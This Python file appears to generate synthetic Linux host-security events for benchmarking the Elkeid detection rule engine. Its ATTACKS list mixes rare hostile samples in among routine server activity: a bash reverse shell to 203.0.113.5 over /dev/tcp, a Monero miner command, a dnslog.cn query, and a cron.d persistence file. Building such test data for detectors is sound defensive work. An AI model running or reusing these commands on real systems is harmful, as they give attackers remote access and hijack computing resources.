"""A realistic event mix for rule-engine benchmarks (field sets and shares like a busy Linux server)."""

from __future__ import annotations

import random

from elkeid import datatypes

#: (data_type, share of events)
MIX = [
    (datatypes.EXECVE, 0.35), (datatypes.CONNECT, 0.20), (datatypes.DNS_QUERY, 0.15), (datatypes.CREATE_FILE, 0.12),
    (datatypes.ACCEPT, 0.05), (datatypes.RENAME, 0.03), (datatypes.BIND, 0.02), (datatypes.SSH_LOGIN, 0.02),
    (datatypes.AGENT_HEARTBEAT, 0.015), (datatypes.PLUGIN_HEARTBEAT, 0.015), (datatypes.ASSET_LISTEN_PORT, 0.01),
    (datatypes.ASSET_USER, 0.005), (datatypes.MEMFD_CREATE, 0.002), (datatypes.MOUNT, 0.002),
    (datatypes.LOAD_MODULE, 0.002), (datatypes.UPDATE_CRED, 0.002), (datatypes.PRCTL, 0.002),
]  # fmt: skip

PROGRAMS = [
    ("/usr/bin/python3.11", "python3 /opt/app/manage.py runworker --queue default --concurrency 4"),
    ("/usr/bin/bash", "bash -c /usr/local/bin/healthcheck.sh --timeout 5"),
    ("/usr/bin/ls", "ls -la /var/lib/app/uploads"), ("/usr/bin/git", "git fetch --prune origin"),
    ("/usr/bin/curl", "curl -fsS -m 5 http://127.0.0.1:8080/healthz"), ("/usr/bin/grep", "grep -E error|warn /var/log/app.log"),
    ("/usr/bin/cat", "cat /proc/loadavg"), ("/usr/bin/ps", "ps -eo pid,ppid,comm,rss"), ("/usr/bin/sed", "sed -n 1,20p /etc/hosts"),
    ("/usr/lib/jvm/java-17-openjdk-amd64/bin/java", "java -Xmx2g -jar /opt/service/service.jar --spring.profiles.active=prod"),
    ("/usr/sbin/nginx", "nginx: worker process"), ("/usr/bin/dash", "sh -c date +%s"), ("/usr/bin/awk", "awk {print $1}"),
    ("/usr/bin/systemctl", "systemctl is-active nginx"), ("/usr/bin/node", "node /srv/web/server.js"),
    ("/usr/bin/tar", "tar czf /backup/app-2024.tgz /srv/app"), ("/usr/bin/sleep", "sleep 30"),
    ("/usr/bin/find", "find /tmp -mtime +7 -delete"), ("/usr/sbin/sshd", "sshd: deploy [priv]"), ("/usr/bin/id", "id -u"),
]  # fmt: skip
PARENTS = ["/usr/bin/bash", "/usr/lib/systemd/systemd", "/usr/sbin/cron", "/usr/bin/python3.11", "/usr/sbin/sshd",
           "/usr/bin/containerd-shim-runc-v2"]  # fmt: skip
DOMAINS = ["api.github.com", "deb.debian.org", "db.internal.example", "s3.eu-west-1.amazonaws.com", "pypi.org",
           "ntp.ubuntu.com", "metrics.example.net", "login.microsoftonline.com"]  # fmt: skip
FILES = ["/var/lib/app/cache/{n}.json", "/tmp/tmp{n}.txt", "/var/log/app/{n}.log", "/home/deploy/.cache/pip/{n}",
         "/srv/app/uploads/{n}.png", "/run/user/1000/{n}.sock"]  # fmt: skip
#: Events that some rule must catch, mixed in rarely.
ATTACKS = [
    {"data_type": 59, "exe": "/usr/bin/bash", "argv": "bash -c bash -i >& /dev/tcp/203.0.113.5/4444 0>&1", "p_exe": "/usr/sbin/php-fpm8.2"},
    {"data_type": 59, "exe": "/tmp/.x/kworker", "argv": "kworker -o stratum+tcp://pool.supportxmr.com:3333"},
    {"data_type": 601, "exe": "/usr/lib/jvm/java-17-openjdk-amd64/bin/java", "query": "a8f3.dnslog.cn"},
    {"data_type": 602, "exe": "/usr/bin/bash", "file_path": "/etc/cron.d/update"},
]  # fmt: skip


def _common(rng: random.Random, exe: str, argv: str) -> dict:
    pid = rng.randint(300, 4_000_000)
    return {
        "uid": rng.choice(["0", "1000", "33", "999"]), "exe": exe, "pid": str(pid), "ppid": str(pid - rng.randint(1, 50)),
        "pgid": str(pid), "tgid": str(pid), "sid": str(pid - 70), "comm": exe.rsplit("/", 1)[-1][:15],
        "nodename": "web-3", "sessionid": "4294967295", "pns": "4026531836", "root_pns": "4026531836",
        "argv": argv, "ppid_argv": "bash -c run-parts /etc/cron.hourly", "pgid_argv": argv, "username": "deploy",
        "pod_name": "", "exe_hash": f"{rng.getrandbits(64):016x}", "pid_tree": f"{pid}.x<{pid - 3}.bash<1.systemd",
        "p_exe": rng.choice(PARENTS),
    }  # fmt: skip


#: Programs that open sockets, resolve names, load modules, raise credentials: (exe, argv).
NETWORKERS = [p for p in PROGRAMS if p[0].rsplit("/", 1)[-1] in ("python3.11", "curl", "git", "java", "nginx", "node", "sshd")]
SPECIAL = {
    datatypes.LOAD_MODULE: ("/usr/bin/kmod", "modprobe -q -- nf_conntrack"),
    datatypes.UPDATE_CRED: ("/usr/bin/sudo", "sudo -n systemctl restart app"),
    datatypes.MOUNT: ("/usr/bin/mount", "mount -t tmpfs tmpfs /run/app"),
    datatypes.MEMFD_CREATE: ("/usr/lib/jvm/java-17-openjdk-amd64/bin/java", "java -jar /opt/service/service.jar"),
}


def make_event(rng: random.Random, data_type: int, n: int) -> dict:
    if data_type in SPECIAL:
        exe, argv = SPECIAL[data_type]
    elif data_type in (datatypes.CONNECT, datatypes.ACCEPT, datatypes.BIND, datatypes.DNS_QUERY):
        exe, argv = rng.choice(NETWORKERS)
    else:
        exe, argv = rng.choice(PROGRAMS)
    event: dict = {"data_type": data_type, "agent_id": f"agent-{n % 50}", "hostname": f"host-{n % 50}",
                   "timestamp": 1_700_000_000 + n // 100}  # fmt: skip
    dt = datatypes.get(data_type)
    if dt.kind == datatypes.Kind.DRIVER:
        event.update(_common(rng, exe, argv))
    if data_type == datatypes.EXECVE:
        event.update(run_path="/srv/app", stdin="/dev/null", stdout="pipe:[40112]", dip="", dport="", sip="", sport="",
                     sa_family="", tty="", socket_pid="", ssh="", ld_preload="", res="0")  # fmt: skip
    elif data_type in (datatypes.CONNECT, datatypes.ACCEPT):
        event.update(sa_family="2", dip=f"10.0.{rng.randint(0, 9)}.{rng.randint(1, 254)}", dport=rng.choice(["443", "5432", "6379", "80"]),
                     sip="10.0.0.5", sport=str(rng.randint(30000, 60000)), res="0")  # fmt: skip
    elif data_type == datatypes.BIND:
        event.update(sa_family="2", sip="0.0.0.0", sport=str(rng.randint(1024, 60000)), res="0")
    elif data_type == datatypes.DNS_QUERY:
        event.update(query=rng.choice(DOMAINS), sa_family="2", dip="10.0.0.2", dport="53", sip="10.0.0.5",
                     sport=str(rng.randint(30000, 60000)), opcode="0", rcode="0")  # fmt: skip
    elif data_type == datatypes.CREATE_FILE:
        event.update(file_path=rng.choice(FILES).format(n=n), dip="", dport="", sip="", sport="", sa_family="",
                     socket_pid="", sb_id="8")  # fmt: skip
    elif data_type == datatypes.RENAME:
        event.update(old_name=f"/var/lib/app/tmp.{n}", new_name=f"/var/lib/app/state.{n % 7}", sb_id="8")
    elif data_type == datatypes.SSH_LOGIN:
        event.update(status=rng.choice(["true", "false"]), types="publickey", invalid="false", user="deploy",
                     sip=f"198.51.100.{rng.randint(1, 200)}", sport=str(rng.randint(30000, 60000)), pid="811")  # fmt: skip
    elif dt.kind == datatypes.Kind.ASSET:
        event.update({f: "x" for f in dt.fields}, uid="1000", sip="0.0.0.0", sport="8080", exe="/usr/bin/node")
    elif data_type == datatypes.LOAD_MODULE:
        event.update(ko_file="/lib/modules/6.1.0-18-amd64/kernel/net/netfilter/nf_conntrack.ko", run_path="/")
    elif data_type == datatypes.UPDATE_CRED:
        event.update(old_uid="1000", res="0", old_username="deploy")
    elif data_type == datatypes.MOUNT:
        event.update(dev="tmpfs", file_path="/run/app", fstype="tmpfs", flags="0")
    else:
        event.update({f: "1" for f in dt.own_fields if f not in event})
    return event


def event_mix(count: int, seed: int = 1, attack_every: int = 500) -> list[dict]:
    rng = random.Random(seed)
    types, weights = zip(*MIX)
    events = []
    for n in range(count):
        if attack_every and n % attack_every == attack_every - 1:
            base = make_event(rng, 59, n)
            base.update(rng.choice(ATTACKS))
            events.append(base)
        else:
            events.append(make_event(rng, rng.choices(types, weights)[0], n))
    return events
